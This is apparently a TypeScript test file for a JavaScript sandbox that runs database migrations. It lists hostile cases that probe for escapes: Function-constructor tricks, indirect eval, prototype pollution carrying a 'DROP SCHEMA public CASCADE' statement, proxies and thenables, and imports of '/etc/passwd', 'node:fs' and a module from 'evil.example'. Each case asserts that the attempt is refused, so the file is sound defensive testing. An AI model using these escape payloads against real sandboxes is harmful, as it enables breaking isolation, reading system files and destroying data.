import { withRevision, type HostileWorkspace } from "./hostileWorkspace.ts";

/** What a browser's page has and the sandbox must not: printed when it is found. */
const look = `
const names = ["window", "document", "self", "parent", "top", "fetch", "XMLHttpRequest", "WebSocket", "EventSource", "indexedDB",
  "caches", "localStorage", "sessionStorage", "navigator", "cookieStore", "Worker", "SharedWorker", "BroadcastChannel", "importScripts",
  "postMessage", "location", "process", "require", "secret", "setTimeout", "WebAssembly", "stillroomHost"];
const found = (where, object) => {
  const there = names.filter((name) => { try { return object[name] !== undefined; } catch { return false; } });
  console.log(where, there.length === 0 ? "NOTHING" : "FOUND " + there.join());
};
`;

const lookFrom = (name: string, object: string): HostileWorkspace =>
  withRevision(
    name,
    `  found("seen", ${object});`,
    { says: /seen NOTHING|TypeError|ReferenceError|SyntaxError|EvalError/ },
    look,
  );

/** Ways out of a sandbox that worked somewhere. */
export const escapes: readonly HostileWorkspace[] = [
  lookFrom("the global itself", "globalThis"),
  lookFrom("a function's constructor", `(function () {}).constructor("return this")()`),
  lookFrom("an arrow's constructor", `(() => 1).constructor.constructor("return globalThis")()`),
  lookFrom("a generator's constructor", `(function* () {}).constructor("yield globalThis")().next().value`),
  lookFrom("the constructor of a host function", `op.execute.constructor("return this")()`),
  lookFrom("the constructor of the console", `console.log.constructor("return this")()`),
  lookFrom(
    "the constructor of a result",
    `op.getBind().execute(sa.text("select 1")).constructor.constructor("return this")()`,
  ),
  lookFrom(
    "the constructor of a row",
    `op.getBind().execute(sa.text("select 1")).fetchall()[0].constructor.constructor("return this")()`,
  ),
  lookFrom("the caller of a function", `(function f() { try { return f.caller ?? {}; } catch { return {}; } })()`),
  lookFrom("an indirect eval", `(0, eval)("this")`),
  lookFrom("a Reflect.construct", `Reflect.construct(Function, ["return globalThis"])()`),
  lookFrom("a this without strict mode", `new Function("return (function () { return this; })()")()`),
  withRevision(
    "an error of the host",
    `  try { op.execute("SELECT 1/0"); } catch (error) {
    for (let object = error; object !== null; object = Object.getPrototypeOf(object)) found("seen", object.constructor.constructor("return this")());
    console.log("keys", Object.getOwnPropertyNames(error).join());
  }
  throw new Error("end");`,
    { says: /seen NOTHING[\s\S]*keys [\w,]+/ },
    look,
  ),
  withRevision(
    "Error.prepareStackTrace",
    `  Error.prepareStackTrace = (_error, frames) => { console.log("FRAMES", typeof frames?.[0]?.getThis?.()); return frames; };
  try { null.x; } catch (error) { console.log("stack", typeof error.stack); }
  op.execute({ toString() { throw new Error("x"); } });`,
    { says: /stack \w+/ },
  ),
  withRevision(
    "a polluted prototype",
    `  Object.prototype.kind = "executeSql"; Object.prototype.sqltext = "DROP SCHEMA public CASCADE"; Object.prototype.then = (resolve) => resolve(globalThis);
  Array.prototype.toJSON = () => ({ kind: "x" }); String.prototype.toJSON = () => ({}); Object.prototype.toJSON = () => 7;
  op.createTable("t", sa.Column("id", sa.Integer));`,
  ),
  withRevision(
    "a replaced JSON",
    `  JSON.stringify = () => "{ not json"; JSON.parse = () => ({ value: { fetchall: () => "fake" } });
  op.execute("SELECT 1"); console.log("after");`,
  ),
  withRevision(
    "a JSON that names another question",
    `  const real = JSON.stringify;
  JSON.stringify = (value) => real({ ...value, __proto__: { constructor: "x" }, constructor: "y", name: "constructor" });
  op.execute("SELECT 1"); op.getBind().execute(sa.text("SELECT 2"));`,
  ),
  withRevision(
    "the engine's way back into the sandbox",
    `  for (const id of [-1, 0, 1, 2 ** 53, NaN, "constructor", "__proto__", null]) {
    try { console.log("called", String(globalThis.stillroomCallback(id, "[[[")).slice(0, 60)); } catch (error) { console.log("refused", error.message); }
  }
  globalThis.stillroomCallback = () => "{ not json"; globalThis.stillroomModules = null;`,
  ),
  withRevision("a getter for every export", `  console.log("never");`, {
    files: {
      "alembic/versions/0002_getter.ts": `export let revision = { toString: () => "0002", get length() { throw new Error("x"); } } as any;\nexport const downRevision = new Proxy([], { get() { throw new Error("proxy"); }, ownKeys() { throw new Error("keys"); } });\nexport const branchLabels = null;\nexport const dependsOn = null;\nexport function upgrade() {}\n`,
    },
  }),
  withRevision(
    "a getter in an operation",
    `  op.createTable("t", { get kind() { throw new Error("getter ran"); } });`,
    { says: /getter ran|TypeError/ },
  ),
  withRevision(
    "a column that is a proxy",
    `  op.addColumn("t", new Proxy({}, { get: (_target, key) => { console.log("asked", String(key)); return new Proxy(() => 1, {}); } }));`,
  ),
  withRevision(
    "a thenable upgrade",
    `  return { then(resolve, reject) { resolve({ then() { throw new Error("thenable"); } }); } };`,
  ),
  withRevision("a promise that never ends", `  return new Promise(() => {});`),
  withRevision("promises without end", `  const again = () => Promise.resolve().then(again); return again();`, {
    says: /second|long|settles|memory/i,
  }),
  withRevision(
    "a thrown proxy",
    `  throw new Proxy(new Error("x"), { get() { throw new Error("again"); }, getPrototypeOf() { throw new Error("proto"); } });`,
  ),
  withRevision("a thrown nothing", `  throw undefined;`),
  withRevision(
    "an error whose message is a trap",
    `  throw { get message() { while (true); }, get stack() { throw 1; }, toString() { return {}; } };`,
  ),
  withRevision("a symbol where text belongs", `  op.createTable(Symbol("t")); op.execute(Symbol.iterator);`),
  withRevision(
    "odd arguments for every operation",
    `  const odd = [undefined, null, NaN, -0, 1n, "", "\\u0000", "\\ud800", [], {}, () => 1, Symbol("s"), new Date(NaN), /x/g, Object.create(null), new Map(), new ArrayBuffer(8), globalThis];
  let tried = 0;
  for (const name of Object.keys(op)) for (const argument of odd) { tried++; try { op[name](argument, argument, argument, argument); } catch {} }
  console.log("tried", tried > 100);`,
    { says: /tried true|InFailedSqlTransaction|aborted|limit/ },
  ),
  withRevision(
    "a module outside of the project",
    `  return import("../../../../etc/passwd").then((m) => console.log(Object.keys(m).length === 0 ? "refused" : "FOUND", m), (error) => console.log("refused", error.message));`,
    { says: /refused|Cannot find|no module|ModuleNotFound/i },
  ),
  withRevision(
    "modules by address",
    `  const all = ["https://evil.example/x.js", "data:text/javascript,export default 1", "blob:null/1", "file:///etc/passwd", "node:fs", "/assets/main.js", "__proto__", "constructor", "stillroom:host", "alembic/../host"];
  return Promise.all(all.map((name) => import(name).then((m) => console.log(Object.keys(m).length === 0 ? "refused" : "FOUND"), () => console.log("refused")))).then(() => console.log("end"));`,
    { says: /refused[\s\S]*end/ },
  ),
  withRevision("a file called __proto__", `  console.log("ran", ({}).polluted);`, {
    files: { "__proto__.ts": "export default 1", "constructor/prototype.ts": "export const polluted = 1;" },
    says: /ran undefined/,
  }),
  withRevision(
    "import.meta",
    `  console.log("meta", JSON.stringify(Object.keys(import.meta)), String(import.meta.url).includes("http") ? "FOUND" : "nothing");`,
    { says: /meta .*nothing/ },
  ),
];
